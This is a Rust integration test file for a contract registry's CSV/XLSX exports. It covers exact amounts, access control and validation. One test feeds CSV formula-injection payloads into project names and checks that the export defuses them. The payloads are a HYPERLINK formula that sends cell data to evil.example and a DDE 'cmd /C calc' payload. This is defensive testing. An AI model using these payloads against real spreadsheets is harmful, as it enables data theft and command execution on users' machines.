//! Exports for the registrar: the contracts of a year and every indicator breakdown, as CSV and
//! XLSX with Chinese headers; nobody else may download them.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use chrono::NaiveDate;
use reqwest::StatusCode;
use serde_json::json;
use techmarket::services::accounts::sessions;
use techmarket::services::contracts;

use crate::helpers::json_of;
use crate::helpers::market::{Market, contract_body, market, submit, value};
use crate::helpers::{TestApp, assert_problem, error_fields, spawn_app};

/// `123.45` → 12345 fen, exactly (the export's amounts are decimal text, never floats).
fn fen(yuan: &str) -> i64 {
    let (whole, cents) = yuan.split_once('.').expect("two decimals");
    assert_eq!(cents.len(), 2, "{yuan}");
    let whole: i64 = whole.parse().expect("whole yuan");
    whole * 100 + cents.parse::<i64>().expect("cents")
}

/// The rows of a CSV export (after checking its byte-order mark), headers first.
fn csv_rows(body: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(body).expect("utf-8");
    let text = text
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark for Excel");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("csv row").iter().map(str::to_owned).collect())
        .collect()
}

async fn download(app: &TestApp, path: &str, token: Option<&str>) -> (StatusCode, String, Vec<u8>) {
    let response = app.get(path, token).await;
    let status = response.status();
    let disposition = response
        .headers()
        .get("content-disposition")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    (
        status,
        disposition,
        response.bytes().await.expect("body").to_vec(),
    )
}

/// Submits and registers contracts of 2025: the amounts' edge cases, one seller outside Xi'an,
/// and one contract left waiting.
async fn registered_contracts(app: &TestApp, m: &Market) {
    let registrar = sessions::authenticate(app.db(), &m.registrar)
        .await
        .expect("registrar");
    let amounts = [
        (0, 0, "610113"),
        (12_345, 45, "610113"),
        (10_000_000_000_000, 1, "610116"),
        (50_000_000, 0, "310104"),
    ];
    for (i, (total, non_technical, seller_region)) in amounts.into_iter().enumerate() {
        let mut body = contract_body(m, total, non_technical);
        body["seller"]["region_code"] = json!(seller_region);
        let created = json_of(
            submit(app, &m.broker, None, &body).await,
            StatusCode::CREATED,
        )
        .await;
        let id = created["id"].as_str().expect("id").parse().expect("uuid");
        let on = NaiveDate::from_ymd_opt(2025, 3 + i as u32, 10).expect("date");
        contracts::register(app.db(), &registrar, id, "01", on)
            .await
            .expect("register");
    }
    submit(app, &m.broker, None, &contract_body(m, 700, 0)).await;
}

#[tokio::test]
async fn the_registrar_exports_the_contracts_of_a_year_as_csv_and_xlsx() {
    let app = spawn_app().await;
    let m = market(&app).await;
    registered_contracts(&app, &m).await;

    let (status, disposition, body) = download(
        &app,
        "/api/v1/contracts/export?year=2025&format=csv",
        Some(&m.registrar),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        disposition.contains("filename=\"contracts-2025-registered.csv\"")
            && disposition
                .contains("filename*=UTF-8''%E6%8A%80%E6%9C%AF%E5%90%88%E5%90%8C-2025.csv"),
        "{disposition}"
    );
    let rows = csv_rows(&body);
    let headers = &rows[0];
    let column = |name: &str| {
        headers
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {headers:?}"))
    };
    let (number, total, technical, seller_kind) = (
        column("合同登记编号"),
        column("合同成交额（元）"),
        column("技术交易额（元）"),
        column("卖方性质"),
    );
    let data = &rows[1..];
    assert_eq!(data.len(), 4, "registered contracts only: {data:?}");
    let numbers: Vec<&str> = data.iter().map(|r| r[number].as_str()).collect();
    assert!(
        numbers
            .iter()
            .all(|n| n.len() == 16 && n.starts_with("2025"))
    );
    assert!(numbers.windows(2).all(|w| w[0] < w[1]), "{numbers:?}");
    let mut totals: Vec<&str> = data.iter().map(|r| r[total].as_str()).collect();
    totals.sort_unstable();
    assert_eq!(
        totals,
        ["0.00", "100000000000.00", "123.45", "500000.00"],
        "amounts are exact decimal 元"
    );
    let technical_fen: i64 = data.iter().map(|r| fen(&r[technical])).sum();
    assert_eq!(technical_fen, 12_300 + 9_999_999_999_999 + 50_000_000);
    assert!(
        data.iter().all(|r| r[seller_kind] == "高等院校"),
        "{data:?}"
    );

    let (status, _, body) = download(
        &app,
        "/api/v1/contracts/export?year=2025&status=submitted",
        Some(&m.registrar),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(csv_rows(&body).len(), 1, "no 2025 submissions wait");

    let (status, _, body) = download(
        &app,
        "/api/v1/contracts/export?year=2025&format=xlsx",
        Some(&m.registrar),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(body)).expect("xlsx");
    let sheet = workbook
        .worksheet_range("2025年技术合同")
        .expect("the sheet");
    assert_eq!(sheet.height(), 5);
    assert_eq!(
        sheet.get((0, number)),
        Some(&Data::String("合同登记编号".into()))
    );
    let xlsx_total: f64 = (1..5)
        .filter_map(|r| sheet.get((r, total)))
        .filter_map(|c| match c {
            Data::Float(v) => Some(*v),
            _ => None,
        })
        .sum();
    assert_eq!(xlsx_total, 100_000_500_123.45);
}

#[tokio::test]
async fn every_breakdown_exported_sums_to_the_indicator() {
    let app = spawn_app().await;
    let m = market(&app).await;
    registered_contracts(&app, &m).await;

    let (status, _, body) = download(
        &app,
        "/api/v1/indicators/export?year=2025",
        Some(&m.registrar),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&body);
    assert_eq!(
        rows[0],
        [
            "分组维度",
            "统计口径",
            "分组代码",
            "分组",
            "合同数",
            "合同成交额（元）",
            "技术交易额（元）"
        ]
    );
    for (direction, label) in [("outflow", "技术输出"), ("inflow", "技术吸纳")] {
        let total = value(&app, &format!("year=2025&direction={direction}")).await;
        let technical = value(
            &app,
            &format!("year=2025&direction={direction}&measure=technical"),
        )
        .await;
        for dimension in [
            "月",
            "季度",
            "合同类型",
            "技术领域",
            "产业",
            "卖方性质",
            "区县",
        ] {
            let groups: Vec<&Vec<String>> = rows
                .iter()
                .filter(|r| r[0] == dimension && r[1] == label)
                .collect();
            assert!(!groups.is_empty(), "{dimension} {label}");
            let count: i64 = groups
                .iter()
                .map(|r| r[4].parse::<i64>().expect("count"))
                .sum();
            let value_fen: i64 = groups.iter().map(|r| fen(&r[5])).sum();
            let technical_fen: i64 = groups.iter().map(|r| fen(&r[6])).sum();
            assert_eq!(
                (Some(count), Some(value_fen), Some(technical_fen)),
                (
                    total["count"].as_i64(),
                    total["value_fen"].as_i64(),
                    technical["value_fen"].as_i64()
                ),
                "{dimension} {label}"
            );
        }
    }
    // Outflow counts the three contracts sold from Xi'an, not the Shanghai seller's.
    let outflow = value(&app, "year=2025").await;
    assert_eq!(outflow["value_fen"], json!(10_000_000_012_345i64));

    let (status, _, body) = download(
        &app,
        "/api/v1/indicators/export?year=2025&format=xlsx",
        Some(&m.registrar),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(body)).expect("xlsx");
    let names = workbook.sheet_names();
    for name in ["2025年指标分解", "按月", "按区县", "政策指标"] {
        assert!(names.iter().any(|n| n == name), "{names:?}");
    }
}

#[tokio::test]
async fn only_the_registrar_may_export() {
    let app = spawn_app().await;
    let m = market(&app).await;
    registered_contracts(&app, &m).await;
    for path in [
        "/api/v1/contracts/export?year=2025",
        "/api/v1/indicators/export?year=2025&format=xlsx",
    ] {
        for token in [&m.seller, &m.buyer, &m.broker, &m.outsider] {
            assert_problem(app.get(path, Some(token)).await, StatusCode::FORBIDDEN).await;
        }
        assert_problem(app.get(path, None).await, StatusCode::UNAUTHORIZED).await;
    }
    for (path, field) in [
        ("/api/v1/contracts/export?format=pdf", "format"),
        ("/api/v1/contracts/export?status=archived", "status"),
        ("/api/v1/indicators/export?year=99999", "year"),
        // Found by schemathesis: year + 1 overflowed into a 500.
        ("/api/v1/contracts?year=2147483647", "year"),
    ] {
        let problem = assert_problem(
            app.get(path, Some(&m.registrar)).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(error_fields(&problem), vec![field], "{path}");
    }
}

#[tokio::test]
async fn text_a_spreadsheet_would_run_as_a_formula_is_exported_inert() {
    let app = spawn_app().await;
    let m = market(&app).await;
    let registrar = sessions::authenticate(app.db(), &m.registrar)
        .await
        .expect("registrar");
    let payloads = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击查看\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "=1+1",
        "正常的项目名称 =1",
    ];
    for (i, name) in payloads.iter().enumerate() {
        let mut body = contract_body(&m, 12_345 + i as i64, 0);
        body["project_name"] = json!(name);
        body["seller"]["name"] = json!(format!("={i}+西安交通大学"));
        let created = json_of(
            submit(&app, &m.broker, None, &body).await,
            StatusCode::CREATED,
        )
        .await;
        let id = created["id"].as_str().expect("id").parse().expect("uuid");
        let on = NaiveDate::from_ymd_opt(2025, 5, 1).expect("date");
        contracts::register(app.db(), &registrar, id, "01", on)
            .await
            .expect("register");
    }
    let (status, _, body) = download(
        &app,
        "/api/v1/contracts/export?year=2025&format=csv",
        Some(&m.registrar),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&body);
    let column = |name: &str| rows[0].iter().position(|h| h == name).expect(name);
    let (project, seller, total) = (
        column("项目名称"),
        column("卖方名称"),
        column("合同成交额（元）"),
    );
    let formula = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    for row in &rows[1..] {
        assert!(!row.iter().any(|cell| formula(cell)), "{row:?}");
        // The text is all there, behind the apostrophe that keeps it text.
        let name = row[project].strip_prefix('\'').unwrap_or(&row[project]);
        assert!(payloads.contains(&name), "{row:?}");
        assert_eq!(row[project].starts_with('\''), !name.starts_with('正'));
        assert!(row[seller].starts_with("'="), "{row:?}");
        // Amounts stay exact numbers.
        let i = payloads.iter().position(|p| *p == name).expect("payload") as i64;
        assert_eq!(fen(&row[total]), 12_345 + i);
    }
    assert_eq!(rows.len(), 1 + payloads.len());
}
